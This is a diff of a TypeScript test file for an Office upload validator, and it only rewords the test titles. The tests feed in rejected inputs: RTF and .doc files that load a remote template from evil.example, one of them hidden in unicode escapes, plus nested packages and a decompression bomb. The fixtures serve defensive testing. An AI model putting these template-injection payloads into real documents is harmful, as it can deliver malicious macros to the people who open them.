@@ -106,11 +106,11 @@ test.each<[string, Buffer, RegExp]>([
     docx({ "word/a": docx({ "word/a": docx({ "word/a": docx() }) }) }),
     /вложен/,
   ],
-])("%s is refused in words", (_what, bytes, words) => {
+])("%s is refused with an explanation", (_what, bytes, words) => {
   expect(() => packageType(bytes)).toThrow(words);
 });
 
-test("what Word writes by itself, links that people follow and charts with their numbers are taken", () => {
+test("parts that Word itself writes, hyperlinks and charts with their data are accepted", () => {
   const honest = docx({
     "word/_rels/document.xml.rels": relation("hyperlink", "https://site.example/").replace(
       "</",
@@ -124,7 +124,7 @@ test("what Word writes by itself, links that people follow and charts with their
   expect(packageType(honest)).toBe("docx");
 });
 
-test("a sheet for each of several charts is taken, and data that are fetched when people want them", () => {
+test("a sheet for each of several charts is accepted, and data fetched on request", () => {
   const sheet = workbook({ "xl/worksheets/sheet1.xml": "<worksheet/>" });
   const charts = [1, 2, 3, 4].map((chart) => [`word/embeddings/Sheet${chart}.xlsx`, sheet]);
   expect(packageType(docx(Object.fromEntries(charts)))).toBe("docx");
@@ -138,7 +138,7 @@ test("a sheet for each of several charts is taken, and data that are fetched whe
   expect(packageType(data)).toBe("xlsx");
 });
 
-test("a presentation is known by its main part; without a list of types nothing is", () => {
+test("a presentation is recognized by its main part, and nothing without a list of types", () => {
   const presentation = { "[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p/>" };
   expect(packageType(packageOf(presentation))).toBe("pptx");
   expect(packageType(packageOf({ "word/document.xml": "<w/>" }))).toBeUndefined();
@@ -146,7 +146,7 @@ test("a presentation is known by its main part; without a list of types nothing 
   expect(packageType(Buffer.from("PK\u0003\u0004"))).toBeUndefined();
 });
 
-test("every document of the demonstration is taken", async () => {
+test("every document of the demonstration content is accepted", async () => {
   const folder = demoMedia();
   const files = readdirSync(folder, { recursive: true, encoding: "utf8" }).filter((name) =>
     /\.(docx?|xlsx)$/.test(name),
@@ -171,7 +171,7 @@ test("the unpacked size of all parts is measured, whatever sizes the package dec
   expect(() => packageType(bomb, 1_999_000)).toThrow("слишком большой");
 });
 
-test("a part that cannot be unpacked is refused in words", () => {
+test("a part that cannot be unpacked is refused with an explanation", () => {
   const locked = docx();
   locked.writeUInt16LE(1, locked.indexOf("PK\u0003\u0004") + 6);
   expect(() => packageType(locked)).toThrow("повреждён");
@@ -189,11 +189,11 @@ test.each<[string, Buffer, RegExp]>([
     Buffer.concat([doc(), Buffer.from("http://evil.example/a.dotm", "utf16le")]),
     /шаблон/,
   ],
-])("an old document with %s is refused in words", (_what, bytes, words) => {
+])("an old document with %s is refused with an explanation", (_what, bytes, words) => {
   expect(() => isOldWordDocument(bytes)).toThrow(words);
 });
 
-test("an old document is taken, also with the empty store of objects that Word leaves in it", () => {
+test("an old document is accepted, also with the empty storage of objects that Word leaves in it", () => {
   expect(isOldWordDocument(doc("ObjectPool", "\u0005SummaryInformation"))).toBe(true);
   expect(isOldWordDocument(doc().subarray(0, 512))).toBe(false);
 });
@@ -210,25 +210,25 @@ test.each<[string, string, RegExp]>([
   ["a template from the network", "{\\*\\template http://evil.example/a.dotm}", /шаблон/],
   ["a template behind a space", "{\\* \\template http://evil.example/a.dotm}", /шаблон/],
   ["a template in numbers", "{\\*\\template \\u104?\\u116?tp://evil.example/a}", /шаблон/],
-])("rich text with %s is refused in words", (_what, rtf, words) => {
+])("rich text with %s is refused with an explanation", (_what, rtf, words) => {
   expect(() => demandPlainRtf(Buffer.from(`{\\rtf1${rtf}}`))).toThrow(words);
 });
 
-test("rich text with links and a template on its writer's disk is taken", () => {
+test("rich text with links and a template on its author's disk is accepted", () => {
   const link = '{\\field{\\*\\fldinst{HYPERLINK "https://site.example/"}}{\\fldrslt DDE}}';
   expect(() =>
     demandPlainRtf(Buffer.from(`{\\rtf1 https://site.example/ {\\*\\template C:\\\\Users\\\\a.dotm}${link}}`)),
   ).not.toThrow();
 });
 
-test("a check that takes more than it may ends in words, and the next file is checked", async () => {
+test("a check that exceeds its limits ends with an explanation, and the next file is checked", async () => {
   const long = docx({ "word/document.xml": `<a>${"<b/>".repeat(2_000_000)}</a>` });
   await expect(checkOffice(long, { maxTime: 50 })).rejects.toThrow("слишком сложный");
   expect(await checkOffice(docx())).toBe("docx");
   expect(await checkOffice(packageOf({ "readme.txt": "…" }))).toBeUndefined();
 });
 
-test("of a film in a presentation no more is read than its beginning", () => {
+test("only the beginning of a film in a presentation is read", () => {
   const parts = { "[Content_Types].xml": strToU8("<Types/>"), "ppt/presentation.xml": strToU8("<presentation/>") };
   const film = Buffer.alloc(1_000_000, "film");
   const bytes = Buffer.from(zipSync({ ...parts, "ppt/media/film.mp4": film }, { level: 0 }));
